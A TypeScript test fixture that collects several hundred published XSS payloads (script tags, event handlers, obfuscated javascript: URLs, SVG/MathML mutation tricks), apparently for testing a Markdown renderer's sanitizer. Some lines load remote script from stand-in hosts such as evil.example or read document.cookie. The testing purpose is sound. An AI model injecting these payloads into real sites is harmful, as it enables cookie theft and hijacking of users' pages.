import { FENCES, MARKDOWN } from './xss-payloads-markdown.ts'

/** For tests: published attacks on renderers (OWASP filter evasion, html5sec, DOMPurify, Markdown ones). */

// one attack a line; § stands for a backtick
const SCRIPTS = String.raw`
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<script/src=data:,alert(1)></script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<SCRIPT>alert("XSS");//<</SCRIPT>
<SCRIPT SRC=http://xss.rocks/xss.js?< B >
<SCRIPT SRC=//xss.rocks/.j>
<script x> alert(1) </script 1=2
<script>/* *\/</script><img src=x onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>
<noframes><style></noframes><img src=x onerror=alert(1)></style>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<img src=x onerror=alert(1)>"></iframe>
<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>
<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>
<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>
<object data="javascript:alert(1)"></object>
<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>
<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>
<applet code="javascript:alert(1)"></applet>
<base href="javascript:alert(1)//">
<base href="//evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert('XSS')</SCRIPT>">
<link rel=stylesheet href=//evil.example/x.css>
<link rel="import" href="data:text/html,<script>alert(1)</script>">
<style>@import 'http://evil.example/x.css';</style>
<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>
<style><img src="</style><img src=x onerror=alert(1)//">
<title><a title="</title><img src=x onerror=alert(1)>"></title>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<textarea autofocus onfocus=alert(1)>
<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>
<plaintext><img src=x onerror=alert(1)>
<template><img src=x onerror=alert(1)></template>
<select><option><img src=x onerror=alert(1)></option></select>
<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror=alert(1)>">
<keygen autofocus onfocus=alert(1)>
<isindex type=image src=1 onerror=alert(1)>
<bgsound src="javascript:alert(1)">
<layer src="http://evil.example"></layer>
<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML>
<HTML xmlns:xss><?import namespace="xss" implementation="http://xss.rocks/xss.htc"><xss:xss>XSS</xss:xss></HTML>
<? echo('<SCR)'; echo('IPT>alert("XSS")</SCRIPT>'); ?>
<!--#exec cmd="/bin/echo '<SCR'"--><!--#exec cmd="/bin/echo 'IPT SRC=http://xss.rocks/xss.js></SCRIPT>'"-->
<!--<img src="--><img src=x onerror=alert(1)//">
<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->
<comment><img src="</comment><img src=x onerror=alert(1)//">
<![CDATA[<script>alert(1)</script>]]>
<![><img src="]><img src=x onerror=alert(1)//">
<!DOCTYPE x[<!ENTITY x SYSTEM "http://html5sec.org/test.xxe">]><y>&x;</y>
<?xml-stylesheet href="javascript:alert(1)"?><root/>
`

const HANDLERS = String.raw`
<img src=x onerror=alert(1)>
<img src=x:alert(alt) onerror=eval(src) alt=0>
<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>
<IMG onmouseover="alert('xxs')">
<img src="x"onerror="alert(1)">
<img/src/onerror=alert(1)>
<img src='x'/onerror='alert(1)'>
<img src=§x§onerror=alert(1)>
<img src="x§<script>alert(1)</script>"§ §>
<image src=x onerror=alert(1)>
<img srcset=x onerror=alert(1)>
<img srcset="javascript:alert(1) 1x">
<img dynsrc="javascript:alert(1)">
<img lowsrc="javascript:alert(1)">
<body onload=alert(1)>
<BODY BACKGROUND="javascript:alert('XSS')">
<BODY ONLOAD =alert('XSS')>
<body onscroll=alert(1)><br><br><input autofocus>
<div onclick=alert(1)>x</div>
<div onpointerover="alert(1)" style="position:fixed;inset:0">x</div>
<p onbeforetoggle=alert(1) popover>x</p>
<a onmouseover="alert(document.cookie)">xxs link</a>
<a onmouseover=alert(document.cookie)\>xxs link\</a\>
<details open ontoggle=alert(1)><summary>x</summary></details>
<video src=x onerror=alert(1)></video>
<video><source onerror="alert(1)"></video>
<video poster=javascript:alert(1)//></video>
<audio src=x onerror=alert(1)></audio>
<audio autoplay src="javascript:alert(1)"></audio>
<marquee onstart=alert(1)>x</marquee>
<input onfocus=alert(1) autofocus>
<input type="image" src="javascript:alert(1)">
<INPUT TYPE="checkbox" onclick=alert(1)>
<button formaction="javascript:alert(1)">x</button>
<form action="javascript:alert(1)"><input type=submit></form>
<form id=test></form><button form=test formaction=javascript:alert(1)>x</button>
<form><input name=attributes><input name=parentNode></form>
<form id="document" name="cookie"><img name="body"></form>
<a id=defaultView name=location href=x>x</a>
<a name="__proto__">x</a><b id="constructor">y</b>
<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>
<TABLE><TD STYLE="background-image: url(javascript:alert(1))">x</TD></TABLE>
<div style="width: expression(alert(1));">x</div>
<div style="background:url('javascript:alert(1)')">x</div>
<div style="-moz-binding:url(http://evil.example/x.xml#xss)">x</div>
<span style="color:red;position:fixed;top:0;left:0;width:100vw;height:100vh">x</span>
<span style="color:red&quot; onclick=&quot;alert(1)">x</span>
<span style='color:rgb(1,2,3)" onmouseover="alert(1)'>x</span>
<td style="text-align:center;behavior:url(x.htc)">x</td>
<XSS STYLE="xss:expression(alert('XSS'))">
<font color="red&quot; onclick=&quot;alert(1)">x</font>
<font color="javascript:alert(1)" face="x" size="1;x">x</font>
<br size="&{alert('XSS')}">
<p title='"><img src=x onerror=alert(1)>'>x</p>
<p title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>
<p class="btn btn-danger modal hljs-x&quot; onclick=&quot;x">x</p>
<p is="x-evil" slot=x contenteditable autofocus tabindex=1 accesskey=x>x</p>
<h1 id="h-x" onclick=alert(1)>x</h1>
<h2 id="h-参数">stolen</h2>
<div role="alertdialog" aria-live="assertive" aria-label='"><script>alert(1)</script>'>x</div>
<span class="tex" data-tex="\href{javascript:alert(1)}{x}">x</span>
<figure class="diagram" data-diagram="evil" data-x=1><pre>x</pre></figure>
`

const ADDRESSES = String.raw`
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="&#14;  javascript:alert(1);">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href="jav&#x0A;ascript:alert(1)">x</a>
<a href="jav&#x0D;ascript:alert(1)">x</a>
<a href="jav	ascript:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="javascript&#58;alert(1)">x</a>
<a href="javascript&#0000058;alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>
<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>
<a href="&Tab;javascript:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="&#xfeff;javascript:alert(1)">x</a>
<a href="java&#0;script:alert(1)">x</a>
<a href="java&#xad;script:alert(1)">x</a>
<a href="javascript://%0aalert(1)">x</a>
<a href="javas<!-- -->cript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="livescript:alert(1)">x</a>
<a href="mocha:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="DATA:image/svg+xml,<svg onload=alert(1)>">x</a>
<a href="data:image/png;base64,AAAA">x</a>
<a href="file:///etc/passwd">x</a>
<a href="blob:https://here/x">x</a>
<a href="filesystem:http://x/y">x</a>
<a href="view-source:http://x">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="jar:javascript:alert(1)">x</a>
<a href="intent://x#Intent;scheme=javascript;end">x</a>
<a href="ms-word:ofe|u|http://evil">x</a>
<a href="about:blank">x</a>
<a href="1javascript:alert(1)">x</a>
<a href="x:y">x</a>
<a href=javascript:alert(1)>x</a>
<a href='javascript:alert(1)'>x</a>
<a href=§javascript:alert(1)§>x</a>
<a href="x" href="javascript:alert(1)">x</a>
<a xlink:href="javascript:alert(1)">x</a>
<a href="#" target="_top" ping="//evil" download rel="opener">x</a>
<a href="//evil.example" rel="opener">x</a>
<a href="\\evil.example">x</a>
<img src="javascript:alert('XSS');">
<IMG SRC=JaVaScRiPt:alert('XSS')>
<IMG SRC="jav	ascript:alert('XSS');">
<IMG SRC='vbscript:msgbox("XSS")'>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<img src="data:image/svg+xml,%3Csvg onload=alert(1)%3E">
<img src="data:text/html,<script>alert(1)</script>">
<img src="data:image/png;base64,AAAA&quot; onerror=&quot;alert(1)">
<img src="data:image/png,<svg onload=alert(1)>">
<img usemap="#m" src=x><map name=m><area shape=rect coords=0,0,99,99 href=javascript:alert(1)></map>
<q cite="javascript:alert(1)">x</q><blockquote cite="javascript:alert(1)">y</blockquote>
`

const MUTATIONS = String.raw`
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg/onload=alert(1)//
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>
<svg><set attributeName="onmouseover" to="alert(1)"/></svg>
<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><desc><style><img title="</style><img src onerror=alert(1)>"></desc></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg>
<svg><![CDATA[><image xlink:href="]]><img src=x:x onerror=alert(1)//"></svg>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline#http://google.com" xlink:href="javascript:alert(1)">x</maction></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=alert(1)">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><annotation-xml encoding="text/html"><style><img title="</style><img src onerror=alert(1)>"></annotation-xml></math>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<p id="</p><img src=x onerror=alert(1)>">
<a title="a&lt;/a&gt;&lt;img src=x onerror=alert(1)&gt;">x</a>
<table><caption><svg><title><table><caption></table><style><a id="</style><img src=1 onerror=alert(1)>">
<div><table><p><tr><td><table></p><img src=x onerror=alert(1)>
<b><style><b></style><img src=x onerror=alert(1)></b>
<a<b onclick=alert(1)>x</a>
<a/onclick=alert(1)/href=x>x</a>
<a foo=§x§ onclick=alert(1)>x</a>
<p ="><img src=x onerror=alert(1)>">
<p a'="><img src=x onerror=alert(1)>'>
<img alt="<x" title="/><img src=x onerror=alert(1)>">
<div title="<!--"><img src=x onerror=alert(1)><!-- "></div>
<pre><code>&lt;img src=x onerror=alert(1)&gt;</code></pre>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;img src=x onerror=alert(1)&#62;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
\u003cscript\u003ealert(1)\u003c/script\u003e
<IMG SRC=x onerror
<img src=x onerror=alert(1) <p>
</p><img src=x onerror=alert(1)><p
<p/
</
<
`

/** Every attack, one Markdown text each. */
export const XSS_PAYLOADS: readonly string[] = [
  ...[SCRIPTS, HANDLERS, ADDRESSES, MUTATIONS, MARKDOWN].flatMap((list) =>
    list.replaceAll('§', '`').split('\n').filter(Boolean),
  ),
  ...FENCES,
]
